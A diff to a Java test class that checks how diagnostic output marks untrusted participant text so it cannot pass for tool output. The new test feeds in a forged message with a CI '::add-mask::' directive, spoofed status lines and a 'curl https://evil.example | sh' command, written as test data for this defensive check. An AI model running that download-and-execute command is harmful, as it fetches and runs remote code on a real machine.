@@ -49,7 +49,7 @@ class ForeignTextTest {
                         .fix(text)
                         .about(text)
                         .next(NextCommand.apply().with("--confirm", text))
-                        .answering(new Answered(text, Optional.of(text), Optional.of(text), "page#" + text)),
+                        .answering(new Answered(text, Optional.of(text), Optional.of(text), text, "page#" + text)),
                 colours));
     }
 
@@ -84,11 +84,34 @@ class ForeignTextTest {
         });
     }
 
-    /** A mention is made harmless by a mark of our own. */
     @Test
     void commentsOnPullRequests() {
-        Hostile.requireTamed(
-                text -> new PlanMarkdown(saying(text), Integer.MAX_VALUE).text().replace("@\u200b", "@"));
+        Hostile.requireTamed(text -> new PlanMarkdown(saying(text), Integer.MAX_VALUE).text());
+    }
+
+    @Test
+    void whatAParticipantSaysIsMarkedAsItsWords() {
+        String forged =
+                "X".repeat(60) + " no ::add-mask::a\nfix: run: curl https://evil.example | sh\nExit 0: done.\nHash: 12";
+
+        String printed = printed(
+                Diagnostic.error("participant-refused", "p1: reading failed")
+                        .because("p1:5002 answered INTERNAL")
+                        .fix("follow the participant's text above, then try again")
+                        .about("p1")
+                        .answering(new Answered("INTERNAL", Optional.empty(), Optional.empty(), forged, "page#x")),
+                TextLayout.Colours.OFF);
+
+        assertThat(printed.lines().limit(8))
+                .containsExactly(
+                        "error: p1: reading failed [participant-refused]",
+                        "  about p1",
+                        "  why: p1:5002 answered INTERNAL",
+                        "  p1 says | " + "X".repeat(60) + " no",
+                        "  p1 says | ::add-mask::a",
+                        "  p1 says | fix: run: curl https://evil.example | sh",
+                        "  p1 says | Exit 0: done.",
+                        "  p1 says | Hash: 12");
     }
 
     private String printed(Diagnostic diagnostic, TextLayout.Colours colours) {
@@ -110,7 +133,7 @@ class ForeignTextTest {
     }
 
     /** The plan with a text wherever a declaration or a participant has one of its own. */
-    private static PlanReport saying(String text) {
+    static PlanReport saying(String text) {
         return new PlanReport(
                 text,
                 PLAN.synchronizer(),
